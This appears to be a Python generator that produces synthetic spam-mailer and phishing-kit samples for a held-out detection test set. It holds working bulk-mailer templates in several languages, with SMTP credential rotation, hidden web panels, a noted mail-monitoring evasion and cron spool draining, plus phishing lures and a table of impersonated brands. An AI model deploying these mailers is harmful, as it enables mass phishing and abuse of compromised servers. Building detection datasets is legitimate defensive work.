"""Mailers and phishing of the sixth held-out set.

Mailers: framework mail loops (a Laravel command, SwiftMailer with SMTP
rotation, CodeIgniter's email library), other PHP mail functions
(`mb_send_mail`, `imap_mail`, `error_log` type 1), exim through `proc_open`
with queue flags, an .eml spool drained by a shell loop, HTTP API senders
(SendGrid from PHP, Mailgun/SES from Python), implicit-TLS SMTP with AUTH
PLAIN written by hand, Perl, Ruby, Node (raw `tls`) and asyncio senders, and
a panel-style UI of its own design.

Phishing: sectors and languages the other sets lack (logistics, tax offices,
telecoms, streaming, cloud storage, regional webmail, crypto exchanges; in
Italian, Polish, Dutch, Japanese, Korean, Arabic, Thai), a reverse-proxy
(AiTM) kit, QR and CAPTCHA/turnstile gates, results to Discord, Slack, a
remote MySQL, Telegram documents; one self-contained HTML page exfiltrating
by fetch(); a server-side card logger and a WebSocket skimmer.

Written blind (README.md): from knowledge of what compromised shared hosts
carry, without reading the detectors. Nothing here is run."""

import json

from common6 import T, b64, dom, hexname, ip, rword, sq, word, place, slug, theme, esc_js, plugin_header


def title(w):
    return w[:1].upper() + w[1:]


SUBJ = ("Your account statement is ready", "Invoice #{{INV}} attached", "Action required: verify your mailbox",
        "Payment received", "Delivery attempt failed", "Security alert for {{EMAIL}}")


def subj(r):
    return r.choice(SUBJ).replace("{{INV}}", str(r.randint(10000, 99999))).replace("{{EMAIL}}", "%email%")


def letter_html(r):
    return ("<html><body><p>Dear %name%,</p><p>" + r.choice(("Please review the document shared with you.",
                                                            "We could not deliver your parcel.", "Your invoice is overdue.")) +
            "</p><p><a href=\"http://" + r.choice(("track.", "docs.", "secure.")) + dom(r) + "/?e=%email%\">Open</a></p></body></html>")


# ---------------------------------------------------------------------------
# mailers


def m_laravel(r, S):
    cls = r.choice(("SendDigest", "NotifyCustomers", "MailQueueFlush", "SyncNewsletter"))
    body = T("""<?php

namespace App\\Console\\Commands;

use Illuminate\\Console\\Command;
use Illuminate\\Support\\Facades\\Config;
use Illuminate\\Support\\Facades\\Mail;

class {{cls}} extends Command
{
    protected $signature = '{{sig}} {list} {letter} {--from=} {--name=} {--subject=} {--smtp=} {--delay=1}';

    protected $description = 'Send the digest';

    public function handle(): int
    {
        $smtps = $this->option('smtp') ? array_filter(file($this->option('smtp'), FILE_IGNORE_NEW_LINES)) : [];
        $html = file_get_contents($this->argument('letter'));
        $n = 0;
        foreach (file($this->argument('list'), FILE_IGNORE_NEW_LINES | FILE_SKIP_EMPTY_LINES) as $to) {
            if ($smtps) {
                [$h, $p, $u, $pw] = explode('|', $smtps[$n % count($smtps)]);
                Config::set('mail.mailers.smtp', ['transport' => 'smtp', 'host' => $h, 'port' => (int) $p,
                    'encryption' => $p == 465 ? 'ssl' : 'tls', 'username' => $u, 'password' => $pw]);
                app('mail.manager')->forgetMailers();
            }
            $body = str_replace(['%email%', '%user%', '%rand%'], [$to, strstr($to, '@', true), mt_rand(10000, 99999)], $html);
            try {
                Mail::html($body, function ($m) use ($to) {
                    $m->to(trim($to))->from($this->option('from') ?: 'no-reply@' . gethostname(), $this->option('name'))
                      ->subject($this->option('subject'));
                });
                $this->line("sent\\t" . $to);
            } catch (\\Throwable $e) {
                $this->error("fail\\t" . $to . "\\t" . $e->getMessage());
            }
            $n++;
            sleep((int) $this->option('delay'));
        }
        return self::SUCCESS;
    }
}
""", cls=cls, sig=r.choice(("digest:send", "mail:flush", "news:sync")))
    return [("app/Console/Commands/%s.php" % cls, body, "php")], "framework"


def m_swift(r, S):
    body = T("""require_once __DIR__ . '/vendor/autoload.php';
set_time_limit(0);
ignore_user_abort(true);
if (@$_POST['go'] !== '1') {
    echo '<form method="post" enctype="multipart/form-data"><input type="hidden" name="go" value="1">'
       . 'From <input name="from"> Name <input name="fname"> Subject <input name="subj"><br>'
       . 'SMTP list (host:port:user:pass) <textarea name="smtp"></textarea><br>'
       . 'Emails <input type="file" name="list"><br><textarea name="body" rows="12" cols="80"></textarea><br><button>Send</button></form>';
    exit;
}
$smtps = array_values(array_filter(array_map('trim', explode("\\n", $_POST['smtp']))));
$list = array_filter(array_map('trim', file($_FILES['list']['tmp_name'])));
$mailers = array();
foreach ($smtps as $i => $line) {
    list($h, $p, $u, $pw) = explode(':', $line, 4);
    $t = (new Swift_SmtpTransport($h, (int) $p, $p == 465 ? 'ssl' : 'tls'))->setUsername($u)->setPassword($pw);
    $mailers[$i] = array(new Swift_Mailer($t), $u);
}
$k = 0;
foreach ($list as $to) {
    list($mailer, $user) = $mailers[$k++ % count($mailers)];
    $msg = (new Swift_Message(str_replace('%email%', $to, $_POST['subj'])))
        ->setFrom(array(($_POST['from'] ?: $user) => $_POST['fname']))
        ->setTo(array($to))
        ->setBody(str_replace(array('%email%', '%id%'), array($to, md5($to . microtime())), $_POST['body']), 'text/html');
    $msg->getHeaders()->addTextHeader('X-Mailer', 'Microsoft Outlook 16.0');
    try {
        echo $mailer->send($msg) ? "<b style=color:green>OK</b> $to<br>" : "<b style=color:red>NO</b> $to<br>";
    } catch (Exception $e) {
        echo "<b style=color:red>ERR</b> $to " . htmlspecialchars($e->getMessage()) . '<br>';
    }
    @ob_flush();
    flush();
    if ($k % 50 == 0) {
        sleep(5);
    }
}
""")
    files, c = place(r, body, allowed=("plain", "inc-ext", "bom", "crlf", "deep-path"))
    return files, c


def m_ci(r, S):
    cls = r.choice(("Newsletter_blast", "Mailing", "Notify_all"))
    body = T("""<?php
defined('BASEPATH') OR exit('No direct script access allowed');

class {{cls}} extends CI_Controller {

    public function index()
    {
        if ($this->input->get('k') !== '{{k}}') {
            show_404();
        }
        $this->load->library('email');
        $cfg = array(
            'protocol'  => 'smtp',
            'smtp_host' => $this->input->post('host'),
            'smtp_port' => (int) $this->input->post('port'),
            'smtp_user' => $this->input->post('user'),
            'smtp_pass' => $this->input->post('pass'),
            'smtp_crypto' => 'tls',
            'mailtype'  => 'html',
            'newline'   => "\\r\\n",
        );
        $list = preg_split('/[\\s,;]+/', (string) $this->input->post('emails'), -1, PREG_SPLIT_NO_EMPTY);
        $sent = 0;
        foreach ($list as $to) {
            $this->email->initialize($cfg);
            $this->email->clear();
            $this->email->from($this->input->post('from'), $this->input->post('name'));
            $this->email->reply_to($this->input->post('reply'));
            $this->email->to($to);
            $this->email->subject(str_replace('%email%', $to, $this->input->post('subject')));
            $this->email->message(str_replace('%email%', $to, $this->input->post('body', false)));
            if ($this->email->send(false)) {
                $sent++;
            }
            usleep(200000);
        }
        echo json_encode(array('sent' => $sent, 'total' => count($list)));
    }
}
""", cls=cls, k=word(r, 6, 10))
    return [("application/controllers/%s.php" % cls, body, "php")], "framework"


def m_mbsend(r, S):
    body = T("""mb_language('Japanese');
mb_internal_encoding('UTF-8');
$_pw = '{{md5}}';
if (md5(@$_POST['pw']) !== $_pw) {
    echo '<form method="post">パスワード <input type="password" name="pw"></form>';
    exit;
}
if (!empty($_POST['to'])) {
    $from = $_POST['from'];
    $name = mb_encode_mimeheader($_POST['name']);
    $rcpts = preg_split('/\\r?\\n/', trim($_POST['to']));
    $ok = 0;
    foreach ($rcpts as $i => $to) {
        $to = trim($to);
        if (!filter_var($to, FILTER_VALIDATE_EMAIL)) {
            continue;
        }
        $h = "From: $name <$from>\\r\\nReply-To: " . $_POST['reply'] . "\\r\\nContent-Type: text/html; charset=UTF-8";
        $sub = str_replace('[MAIL]', $to, $_POST['subject']);
        $msg = str_replace(array('[MAIL]', '[NO]'), array($to, sprintf('%06d', mt_rand(0, 999999))), $_POST['body']);
        if (@mb_send_mail($to, $sub, $msg, $h, '-f' . $from)) {
            $ok++;
        }
        if ($i % 30 == 29) {
            sleep(3);
        }
    }
    echo '送信完了: ' . $ok . ' / ' . count($rcpts);
}
?>
<form method="post"><input type="hidden" name="pw" value="<?php echo htmlspecialchars($_POST['pw']); ?>">
差出人 <input name="from"> 名前 <input name="name"> 返信先 <input name="reply"><br>
件名 <input name="subject" size="60"><br>
本文 <textarea name="body" rows="10" cols="70"></textarea><br>
宛先 (1行1件) <textarea name="to" rows="10" cols="40"></textarea><br>
<button>一括送信</button></form>
<?php
""", md5=hexname(r, 32))
    files, c = place(r, body, allowed=("plain", "inc-ext", "html-addtype", "bom", "deep-path"))
    return files, c


def m_imap(r, S):
    body = T("""error_reporting(0);
set_time_limit(0);
function _send($to, $s, $b, $h, $from) {
    if (function_exists('imap_mail')) {
        return imap_mail($to, $s, $b, $h, '', '', $from);
    }
    if (function_exists('mail')) {
        return mail($to, $s, $b, $h, '-f' . $from);
    }
    return false;
}
$list = isset($_FILES['l']) ? file($_FILES['l']['tmp_name']) : explode("\\n", (string) @$_POST['l']);
$from = @$_POST['f'];
$tpl = base64_decode((string) @$_POST['b']);
$bnd = '==_' . md5(uniqid());
$n = 0;
foreach ($list as $to) {
    $to = trim($to);
    if ($to === '') {
        continue;
    }
    $h = "From: " . $_POST['n'] . " <$from>\\r\\nMIME-Version: 1.0\\r\\nContent-Type: multipart/alternative; boundary=\\"$bnd\\"\\r\\n";
    $html = str_replace('#EMAIL#', $to, $tpl);
    $b = "--$bnd\\r\\nContent-Type: text/plain; charset=utf-8\\r\\n\\r\\n" . strip_tags($html) . "\\r\\n--$bnd\\r\\n"
       . "Content-Type: text/html; charset=utf-8\\r\\nContent-Transfer-Encoding: base64\\r\\n\\r\\n" . chunk_split(base64_encode($html)) . "--$bnd--";
    echo _send($to, str_replace('#EMAIL#', $to, $_POST['s']), $b, $h, $from) ? "+ $to\\n" : "- $to\\n";
    if (++$n % 100 == 0) {
        sleep(2);
    }
}
""")
    files, c = place(r, body, allowed=("plain", "inc-ext", "phar-ext", "nul-tail", "long-line"))
    return files, c


def m_errorlog(r, S):
    body = T("""@ini_set('log_errors', 1);
@ini_set('error_log', '/dev/null');
$cfg = json_decode(base64_decode((string) @$_POST['{{p}}']), true);
if (!is_array($cfg)) {
    header('HTTP/1.0 404 Not Found');
    exit;
}
$sent = 0;
foreach ((array) $cfg['to'] as $rcpt) {
    $hdr = "From: {$cfg['name']} <{$cfg['from']}>\\r\\nContent-Type: text/html; charset=UTF-8\\r\\nX-Priority: 1";
    $msg = strtr($cfg['html'], array('{email}' => $rcpt, '{date}' => date('d.m.Y'), '{id}' => substr(md5($rcpt), 0, 8)));
    // error_log type 1 is mail(): it still works when mail is watched by name
    if (error_log($msg, 1, $rcpt, "Subject: " . $cfg['subject'] . "\\r\\n" . $hdr)) {
        $sent++;
    }
}
echo json_encode(array('ok' => $sent));
""", p=word(r, 1, 3))
    files, c = place(r, body, allowed=("plain", "inc-ext", "deep-path", "crlf", "bom"))
    return files, c


def m_exim(r, S):
    mta = r.choice(("/usr/sbin/exim -odb -oi -t -f %s", "/usr/sbin/sendmail -odq -oi -t -f %s", "/usr/sbin/exim4 -odf -oi -t -f %s"))
    body = T("""set_time_limit(0);
$k = @$_COOKIE['{{ck}}'];
if ($k !== '{{kv}}') {
    exit;
}
$from = $_POST['from'];
$list = array_filter(array_map('trim', explode("\\n", $_POST['list'])));
foreach ($list as $i => $to) {
    $p = proc_open(sprintf('{{mta}}', escapeshellarg($from)), array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w')), $io);
    if (!is_resource($p)) {
        echo "no mta\\n";
        break;
    }
    $msg = "To: $to\\nFrom: " . $_POST['name'] . " <$from>\\nSubject: " . str_replace('%e%', $to, $_POST['subject'])
         . "\\nMessage-ID: <" . md5($to . $i) . "@" . substr(strrchr($from, '@'), 1) . ">\\nMIME-Version: 1.0\\nContent-Type: text/html; charset=utf-8\\n\\n"
         . str_replace('%e%', $to, $_POST['html']) . "\\n";
    fwrite($io[0], $msg);
    fclose($io[0]);
    $err = stream_get_contents($io[2]);
    $rc = proc_close($p);
    echo ($rc === 0 ? 'queued ' : 'error ' . $err . ' ') . $to . "\\n";
}
""", ck=word(r, 3, 6), kv=hexname(r, 16), mta=mta)
    files, c = place(r, body, allowed=("plain", "inc-ext", "phar-ext", "bom", "deep-path"))
    return files, c


def m_spool(r, S):
    sp = r.choice(("tmp/.q", "wp-content/cache/.mq", ".cache/spool", "tmp/sess_spool"))
    body = T("""$spool = dirname(__FILE__) . '/{{sp}}';
@mkdir($spool, 0700, true);
if (isset($_POST['batch'])) {
    $b = json_decode(gzinflate(base64_decode($_POST['batch'])), true);
    $n = 0;
    foreach ($b['to'] as $to) {
        $id = date('YmdHis') . '.' . substr(md5($to . mt_rand()), 0, 10);
        $eml = "From: {$b['from']}\\r\\nTo: $to\\r\\nSubject: {$b['subject']}\\r\\nDate: " . date('r') . "\\r\\n"
             . "MIME-Version: 1.0\\r\\nContent-Type: text/html; charset=utf-8\\r\\n\\r\\n" . str_replace('[[to]]', $to, $b['html']);
        file_put_contents("$spool/$id.eml", $eml);
        $n++;
    }
    echo "spooled $n";
    exit;
}
echo count(glob("$spool/*.eml")) . ' waiting';
""", sp=sp)
    files, c = place(r, body, allowed=("plain", "inc-ext", "deep-path"))
    drain = T("""#!/bin/bash
# drains the spool, 40 a run (from cron)
cd "$(dirname "$0")/{{sp}}" || exit 0
n=0
for f in *.eml; do
	[ -f "$f" ] || continue
	/usr/sbin/sendmail -t -oi <"$f" && rm -f "$f"
	n=$((n + 1))
	[ $n -ge 40 ] && break
	sleep $((RANDOM % 4 + 1))
done
""", sp=sp)
    base = files[0][0].rsplit("/", 1)[0] if "/" in files[0][0] else ""
    files.append(((base + "/" if base else "") + r.choice(("run.sh", ".flush", "cron.sh")), drain, "sh"))
    files.append(("crontab", "*/10 * * * * /bin/bash $HOME/public_html/%s >/dev/null 2>&1\n" % files[-1][0], "crontab"))
    return files, "multi"


def m_sendgrid(r, S):
    body = T("""set_time_limit(0);
$key = trim((string) @$_POST['key']);
$list = array_values(array_filter(array_map('trim', file($_FILES['list']['tmp_name']))));
$chunks = array_chunk($list, 900);
foreach ($chunks as $ci => $chunk) {
    $pers = array();
    foreach ($chunk as $to) {
        $pers[] = array('to' => array(array('email' => $to)), 'substitutions' => array('-email-' => $to));
    }
    $payload = array(
        'personalizations' => $pers,
        'from' => array('email' => $_POST['from'], 'name' => $_POST['name']),
        'subject' => $_POST['subject'],
        'content' => array(array('type' => 'text/html', 'value' => $_POST['html'])),
        'tracking_settings' => array('click_tracking' => array('enable' => false)),
    );
    $ch = curl_init('https://api.sendgrid.com/v3/mail/send');
    curl_setopt_array($ch, array(
        CURLOPT_POST => true,
        CURLOPT_HTTPHEADER => array('Authorization: Bearer ' . $key, 'Content-Type: application/json'),
        CURLOPT_POSTFIELDS => json_encode($payload),
        CURLOPT_RETURNTRANSFER => true,
    ));
    $res = curl_exec($ch);
    $code = curl_getinfo($ch, CURLINFO_HTTP_CODE);
    curl_close($ch);
    echo "batch $ci: HTTP $code " . htmlspecialchars((string) $res) . "<br>";
    if ($code == 401 || $code == 403) {
        echo 'key dead';
        break;
    }
    sleep(1);
}
""")
    files, c = place(r, body, allowed=("plain", "inc-ext", "deep-path", "crlf", "bom"))
    return files, c


def m_pyapi(r, S):
    kind = r.choice(("mailgun", "ses"))
    if kind == "mailgun":
        core = T("""def send(to, html):
    return requests.post(
        "https://api.mailgun.net/v3/%s/messages" % CFG["domain"],
        auth=("api", CFG["key"]),
        data={"from": CFG["from"], "to": to, "subject": CFG["subject"].replace("{email}", to),
              "html": html, "o:tracking": "no"},
        timeout=20,
    ).status_code
""")
        imp = "import requests\n"
    else:
        core = T("""ses = boto3.client("ses", region_name=CFG.get("region", "us-east-1"),
                   aws_access_key_id=CFG["key"], aws_secret_access_key=CFG["secret"])


def send(to, html):
    r = ses.send_email(Source=CFG["from"], Destination={"ToAddresses": [to]},
                       Message={"Subject": {"Data": CFG["subject"].replace("{email}", to)},
                                "Body": {"Html": {"Data": html}}})
    return r["ResponseMetadata"]["HTTPStatusCode"]
""")
        imp = "import boto3\n"
    body = T("""#!/usr/bin/env python3
import json
import random
import sys
import time
{{imp}}
CFG = json.load(open(sys.argv[1] if len(sys.argv) > 1 else "cfg.json"))
LETTER = open(CFG.get("letter", "letter.html"), encoding="utf-8").read()
DONE = set(open("sent.log").read().split()) if __import__("os").path.exists("sent.log") else set()

{{core}}

log = open("sent.log", "a")
for line in open(CFG.get("list", "list.txt"), encoding="utf-8", errors="ignore"):
    to = line.strip()
    if not to or to in DONE:
        continue
    html = LETTER.replace("{email}", to).replace("{rnd}", str(random.randint(100000, 999999)))
    try:
        code = send(to, html)
    except Exception as e:
        print("ERR", to, e)
        time.sleep(10)
        continue
    print(code, to)
    log.write(to + "\\n")
    log.flush()
    time.sleep(CFG.get("delay", 0.3))
""", imp=imp, core=core)
    cfg = json.dumps({"key": "key-" + hexname(r, 32), "secret": rword(r, 40), "domain": "mg." + dom(r),
                      "from": "Billing <billing@%s>" % dom(r), "subject": "Invoice for {email}", "list": "list.txt",
                      "letter": "letter.html", "delay": 0.5}, indent=2)
    d = r.choice((".cache/mg", "tmp/x", "public_html/wp-content/uploads/.m", "mail"))
    return [(d + "/" + r.choice(("send.py", "run.py", "m.py")), body, "python"), (d + "/cfg.json", cfg, "json"),
            (d + "/letter.html", letter_html(r), "html")], "script"


def m_plain465(r, S):
    body = T("""function _rd($s) { $o = ''; while (($l = fgets($s, 515)) !== false) { $o .= $l; if (isset($l[3]) && $l[3] == ' ') { break; } } return $o; }
function _cmd($s, $c) { fwrite($s, $c . "\\r\\n"); return _rd($s); }
$acc = explode('|', base64_decode($_POST['a']));
$ctx = stream_context_create(array('ssl' => array('verify_peer' => false, 'verify_peer_name' => false)));
$s = @stream_socket_client('ssl://' . $acc[0] . ':465', $en, $es, 15, STREAM_CLIENT_CONNECT, $ctx);
if (!$s) {
    die('connect: ' . $es);
}
_rd($s);
_cmd($s, 'EHLO ' . gethostname());
$r = _cmd($s, 'AUTH PLAIN ' . base64_encode("\\0" . $acc[1] . "\\0" . $acc[2]));
if (substr($r, 0, 3) !== '235') {
    die('auth: ' . $r);
}
foreach (preg_split('/\\s+/', trim($_POST['to'])) as $to) {
    _cmd($s, 'RSET');
    _cmd($s, 'MAIL FROM:<' . $acc[1] . '>');
    if (substr(_cmd($s, 'RCPT TO:<' . $to . '>'), 0, 1) !== '2') {
        echo "rcpt refused $to\\n";
        continue;
    }
    _cmd($s, 'DATA');
    $m = "From: " . $_POST['fn'] . " <" . $acc[1] . ">\\r\\nTo: <$to>\\r\\nSubject: " . $_POST['sj'] . "\\r\\nMIME-Version: 1.0\\r\\n"
       . "Content-Type: text/html; charset=utf-8\\r\\n\\r\\n" . str_replace('##to##', $to, base64_decode($_POST['m']));
    $r = _cmd($s, str_replace("\\n.", "\\n..", $m) . "\\r\\n.");
    echo (substr($r, 0, 3) === '250' ? 'ok ' : 'fail ') . $to . "\\n";
}
_cmd($s, 'QUIT');
fclose($s);
""")
    files, c = place(r, body, allowed=("plain", "inc-ext", "long-line", "nul-tail", "deep-path"))
    return files, c


def m_perl(r, S):
    body = T("""#!/usr/bin/perl
use strict;
use warnings;
use Net::SMTP;
use MIME::Base64;

my ($list, $letter, $smtpf) = @ARGV;
open(my $lf, '<', $letter) or die "letter: $!";
my $html = do { local $/; <$lf> };
open(my $sf, '<', $smtpf) or die "smtp: $!";
my @smtp = grep { /\\S/ } map { chomp; $_ } <$sf>;
open(my $tl, '<', $list) or die "list: $!";
my $i = 0;
while (my $to = <$tl>) {
    chomp $to;
    next unless $to =~ /\\@/;
    my ($host, $port, $user, $pass) = split /:/, $smtp[$i++ % @smtp];
    my $s = Net::SMTP->new($host, Port => $port, Timeout => 20, SSL => ($port == 465 ? 1 : 0)) or next;
    $s->starttls() if $port == 587;
    $s->auth($user, $pass) or do { print "auth fail $user\\n"; next };
    (my $body = $html) =~ s/\\[EMAIL\\]/$to/g;
    $s->mail($user);
    if ($s->to($to)) {
        $s->data();
        $s->datasend("From: {{name}} <$user>\\nTo: $to\\nSubject: {{subj}}\\nMIME-Version: 1.0\\nContent-Type: text/html; charset=utf-8\\nContent-Transfer-Encoding: base64\\n\\n");
        $s->datasend(encode_base64($body));
        $s->dataend();
        print "sent $to via $host\\n";
    }
    $s->quit;
    select(undef, undef, undef, 0.4);
}
""", name=r.choice(("Customer Care", "Servizio Clienti", "Obsługa Klienta")), subj=subj(r))
    d = r.choice((".cache", "tmp", "public_html/cgi-bin", ".local/share"))
    return [(d + "/" + r.choice(("sm.pl", "send.pl", "q.pl", "update.pl")), body, "perl"),
            (d + "/smtp.txt", "\n".join("%s:%d:%s@%s:%s" % ("mail." + dom(r), r.choice((587, 465, 25)), word(r), dom(r), rword(r, 10))
                                        for _ in range(r.randint(2, 5))) + "\n", "txt")], "script"


def m_ruby(r, S):
    body = T("""#!/usr/bin/env ruby
require 'net/smtp'
require 'securerandom'

list, letter, from = ARGV
html = File.read(letter)
smtp_host = ENV.fetch('SMTP_HOST', 'localhost')
smtp_port = ENV.fetch('SMTP_PORT', '587').to_i
user = ENV['SMTP_USER']
pass = ENV['SMTP_PASS']

File.foreach(list).each_slice(50) do |batch|
  Net::SMTP.start(smtp_host, smtp_port, helo: 'localhost', user: user, secret: pass, authtype: :login, tls_verify: false) do |smtp|
    batch.each do |line|
      to = line.strip
      next if to.empty?
      msg = <<~MAIL
        From: {{name}} <#{from}>
        To: <#{to}>
        Subject: {{subj}}
        Message-ID: <#{SecureRandom.hex(12)}@#{from.split('@').last}>
        MIME-Version: 1.0
        Content-Type: text/html; charset=UTF-8

        #{html.gsub('[[EMAIL]]', to)}
      MAIL
      begin
        smtp.send_message(msg, from, to)
        puts "ok #{to}"
      rescue StandardError => e
        puts "fail #{to} #{e.message}"
      end
    end
  end
  sleep(rand(3..9))
end
""", name=r.choice(("Support", "Klantenservice", "Assistenza")), subj=subj(r))
    d = r.choice((".gem/tmp", "tmp/r", ".cache/rb", "public_html/.well-known/acme"))
    return [(d + "/" + r.choice(("notify.rb", "run.rb", "x.rb")), body, "ruby")], "script"


def m_node(r, S):
    body = T("""'use strict';
const tls = require('tls');
const fs = require('fs');

const cfg = JSON.parse(fs.readFileSync(process.argv[2] || 'c.json', 'utf8'));
const list = fs.readFileSync(cfg.list, 'utf8').split(/\\r?\\n/).filter(Boolean);
const letter = fs.readFileSync(cfg.letter, 'utf8');

function talk(sock, line) {
  return new Promise((resolve) => {
    sock.once('data', (d) => resolve(d.toString()));
    if (line !== null) sock.write(line + '\\r\\n');
  });
}

async function run() {
  const sock = tls.connect({ host: cfg.host, port: 465, rejectUnauthorized: false });
  await talk(sock, null);
  await talk(sock, 'EHLO ' + cfg.helo);
  await talk(sock, 'AUTH LOGIN');
  await talk(sock, Buffer.from(cfg.user).toString('base64'));
  const a = await talk(sock, Buffer.from(cfg.pass).toString('base64'));
  if (!a.startsWith('235')) throw new Error('auth ' + a);
  for (const to of list) {
    await talk(sock, 'MAIL FROM:<' + cfg.user + '>');
    const rc = await talk(sock, 'RCPT TO:<' + to + '>');
    if (!rc.startsWith('25')) { console.log('refused', to); continue; }
    await talk(sock, 'DATA');
    const body = 'From: ' + cfg.name + ' <' + cfg.user + '>\\r\\nTo: ' + to + '\\r\\nSubject: ' + cfg.subject +
      '\\r\\nContent-Type: text/html; charset=utf-8\\r\\n\\r\\n' + letter.split('%to%').join(to) + '\\r\\n.';
    console.log((await talk(sock, body)).trim(), to);
    await talk(sock, 'RSET');
    await new Promise((r) => setTimeout(r, cfg.delay || 500));
  }
  sock.end('QUIT\\r\\n');
}
run().catch((e) => console.error(e.message));
""")
    cfg = json.dumps({"host": "smtp." + dom(r), "helo": dom(r), "user": "info@" + dom(r), "pass": rword(r, 12), "name": "Accounts",
                      "subject": subj(r), "list": "emails.txt", "letter": "l.html", "delay": 700}, indent=1)
    d = r.choice(("nodevenv/.q", "tmp/n", ".npm/_cache/x", "apps/.s"))
    return [(d + "/" + r.choice(("index.js", "s.js", "worker.js")), body, "js"), (d + "/c.json", cfg, "json")], "script"


def m_async(r, S):
    body = T("""#!/usr/bin/env python3
import asyncio
import itertools
import sys
from email.message import EmailMessage

import aiosmtplib

SMTPS = [l.strip().split("|") for l in open("smtps.txt") if l.strip()]
LETTER = open("letter.html", encoding="utf-8").read()
SUBJECT = {{subj}}
CONC = int(sys.argv[2]) if len(sys.argv) > 2 else 20


async def one(sem, to, acc):
    host, port, user, pw = acc
    msg = EmailMessage()
    msg["From"] = "Service <%s>" % user
    msg["To"] = to
    msg["Subject"] = SUBJECT.replace("%email%", to)
    msg.set_content(LETTER.replace("%email%", to), subtype="html")
    async with sem:
        try:
            await aiosmtplib.send(msg, hostname=host, port=int(port), username=user, password=pw,
                                  use_tls=port == "465", start_tls=port == "587", timeout=30)
            print("OK", to)
        except Exception as e:
            print("NO", to, type(e).__name__)


async def main():
    sem = asyncio.Semaphore(CONC)
    rot = itertools.cycle(SMTPS)
    tasks = [one(sem, l.strip(), next(rot)) for l in open(sys.argv[1]) if "@" in l]
    await asyncio.gather(*tasks)


asyncio.run(main())
""", subj=repr(subj(r)))
    d = r.choice((".local/lib/.s", "tmp/a", "public_html/cgi-bin/.x"))
    return [(d + "/" + r.choice(("a.py", "blast.py", "main.py")), body, "python")], "script"


def m_panel(r, S):
    body = T("""session_start();
if (@$_POST['p'] && sha1($_POST['p']) === '{{sha}}') {
    $_SESSION['ok'] = 1;
}
if (empty($_SESSION['ok'])) {
    die('<form method=post><input type=password name=p><input type=submit value=">"></form>');
}
$tab = isset($_GET['t']) ? $_GET['t'] : 'letter';
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    foreach (array('from', 'name', 'subject', 'html', 'list', 'reply') as $k) {
        if (isset($_POST[$k])) {
            $_SESSION[$k] = $_POST[$k];
        }
    }
}
function tag($s, $to) {
    $u = strstr($to, '@', true);
    $d = substr(strrchr($to, '@'), 1);
    return str_replace(array('{EMAIL}', '{USER}', '{DOMAIN}', '{DATE}', '{RAND}'), array($to, $u, $d, date('D, d M Y'), mt_rand(1e5, 1e6)), $s);
}
if ($tab === 'send') {
    header('Content-Type: text/plain');
    $to_all = array_filter(array_map('trim', explode("\\n", $_SESSION['list'])));
    $off = (int) @$_GET['o'];
    foreach (array_slice($to_all, $off, 25) as $to) {
        $h = 'From: ' . tag($_SESSION['name'], $to) . ' <' . tag($_SESSION['from'], $to) . ">\\r\\nReply-To: " . $_SESSION['reply'] . "\\r\\nContent-type: text/html; charset=utf-8\\r\\n";
        echo (mail($to, tag($_SESSION['subject'], $to), tag($_SESSION['html'], $to), $h) ? 'SENT ' : 'FAIL ') . $to . "\\n";
    }
    echo ($off + 25 < count($to_all)) ? 'NEXT ' . ($off + 25) : 'DONE';
    exit;
}
?><!doctype html><html><head><title>{{title}}</title><style>body{font:13px Arial;background:#eef}nav a{padding:4px 10px;background:#ccd;margin-right:3px}
textarea{width:100%}</style></head><body><nav><a href="?t=letter">Letter</a><a href="?t=list">List</a><a href="?t=go">Send</a></nav>
<form method="post">
<?php if ($tab === 'letter') { ?>
From <input name="from" value="<?= htmlspecialchars(@$_SESSION['from']) ?>"> Name <input name="name" value="<?= htmlspecialchars(@$_SESSION['name']) ?>">
Reply <input name="reply" value="<?= htmlspecialchars(@$_SESSION['reply']) ?>"><br>Subject <input name="subject" size="70" value="<?= htmlspecialchars(@$_SESSION['subject']) ?>">
<textarea name="html" rows="18"><?= htmlspecialchars(@$_SESSION['html']) ?></textarea>
<?php } elseif ($tab === 'list') { ?>
<textarea name="list" rows="25"><?= htmlspecialchars(@$_SESSION['list']) ?></textarea>
<?php } ?>
<button>Save</button></form>
<?php if ($tab === 'go') { ?><pre id="log"></pre><script>
function step(o){fetch('?t=send&o='+o).then(function(r){return r.text()}).then(function(t){var l=document.getElementById('log');l.textContent+=t+"\\n";
var m=t.match(/NEXT (\\d+)/);if(m)setTimeout(function(){step(m[1])},1500)})}step(0);</script><?php } ?>
</body></html>
<?php
""", sha=hexname(r, 40), title=r.choice(("Mail Center", "Sender v3", "Inbox Pro", "Postman")))
    files, c = place(r, body, allowed=("plain", "inc-ext", "html-addtype", "bom", "deep-path", "crlf"))
    return files, c


MAILER = [
    ("laravel_mail_command", m_laravel, 3),
    ("swiftmailer_rotation", m_swift, 3),
    ("codeigniter_email_loop", m_ci, 3),
    ("mb_send_mail_ui", m_mbsend, 3),
    ("imap_mail_fallback", m_imap, 3),
    ("error_log_type1", m_errorlog, 3),
    ("exim_proc_open_queue", m_exim, 3),
    ("eml_spool_drain", m_spool, 3),
    ("sendgrid_api_batches", m_sendgrid, 3),
    ("python_api_sender", m_pyapi, 3),
    ("smtp_465_auth_plain", m_plain465, 3),
    ("perl_net_smtp_rotation", m_perl, 3),
    ("ruby_net_smtp", m_ruby, 3),
    ("node_raw_tls_smtp", m_node, 3),
    ("asyncio_smtp_sender", m_async, 3),
    ("tabbed_panel_mailer", m_panel, 3),
]


# ---------------------------------------------------------------------------
# phishing: brands, languages, pages, exfiltration


BRANDS = {
    "poste-it": dict(name="Poste Italiane", lang="it", sector="logistics", color="#ffde00"),
    "inpost-pl": dict(name="InPost", lang="pl", sector="logistics", color="#ffcd00"),
    "postnl-nl": dict(name="PostNL", lang="nl", sector="logistics", color="#ff6200"),
    "yamato-jp": dict(name="ヤマト運輸", lang="ja", sector="logistics", color="#ffd100"),
    "agenzia-it": dict(name="Agenzia delle Entrate", lang="it", sector="tax", color="#0066cc"),
    "belasting-nl": dict(name="Belastingdienst", lang="nl", sector="tax", color="#154273"),
    "nts-kr": dict(name="국세청 홈택스", lang="ko", sector="tax", color="#1c4587"),
    "play-pl": dict(name="Play", lang="pl", sector="telecom", color="#7d3ab8"),
    "etisalat-ae": dict(name="اتصالات", lang="ar", sector="telecom", color="#719e19"),
    "ais-th": dict(name="AIS", lang="th", sector="telecom", color="#8dc63f"),
    "netflix-th": dict(name="Netflix", lang="th", sector="streaming", color="#e50914"),
